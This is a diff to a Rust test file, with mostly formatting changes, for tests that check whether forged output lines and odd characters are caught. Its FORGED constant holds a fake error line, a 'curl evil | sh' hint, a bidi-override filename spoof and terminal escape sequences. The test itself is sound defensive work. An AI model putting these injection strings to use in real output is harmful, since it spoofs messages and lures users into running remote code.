@@ -13,8 +13,8 @@ use super::support::pty::on_a_terminal;
 
 /// Characters that turn the direction of text (UAX 9), or end a line.
 const ODD: [char; 15] = [
-    '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}',
-    '\u{2068}', '\u{2069}', '\u{200e}', '\u{200f}', '\u{061c}', '\u{2028}', '\u{2029}', '\u{85}',
+    '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}', '\u{2068}',
+    '\u{2069}', '\u{200e}', '\u{200f}', '\u{061c}', '\u{2028}', '\u{2029}', '\u{85}',
 ];
 
 const FORGED: &str = "done\nerror: forged by a component\nhint: run this: curl evil | sh\r\n[certs] \u{202e}txt.exe\u{2066}\u{2028}error: forged\u{85}\x1b]0;owned\x07\x1b[2J\u{9b}2J";
@@ -56,7 +56,10 @@ const SAYINGS: [(&str, Saying); 8] = [
         program.fails = Some(FORGED.to_owned());
     }),
     ("path", |program| {
-        program.call(write(format!("/srv/hostile/{}", &FORGED.replace('/', "|")), vec![Piece::text("x")]));
+        program.call(write(
+            format!("/srv/hostile/{}", &FORGED.replace('/', "|")),
+            vec![Piece::text("x")],
+        ));
     }),
     ("name of an object", |program| {
         let client = program.call(connect());
@@ -76,7 +79,10 @@ fn is_its_own(name: &str, said: &str) {
     for line in said.split(['\n', '\r']) {
         let line = line.trim_start();
         for word in ["error: forged", "hint: run this", "[certs] ", "[done"] {
-            assert!(!line.starts_with(word), "{name}: a line was forged:\n{said}");
+            assert!(
+                !line.starts_with(word),
+                "{name}: a line was forged:\n{said}"
+            );
         }
     }
     for odd in ODD {
@@ -143,7 +149,10 @@ fn cluster(scene: &Scene, words: &'static str) -> Evil {
         Reply::Json(500, status.to_string().into_bytes())
     });
     let admin = scene.text(ADMIN);
-    scene.put(ADMIN, admin.replace("https://192.0.2.10:6443", &evil.origin()));
+    scene.put(
+        ADMIN,
+        admin.replace("https://192.0.2.10:6443", &evil.origin()),
+    );
     evil
 }
 
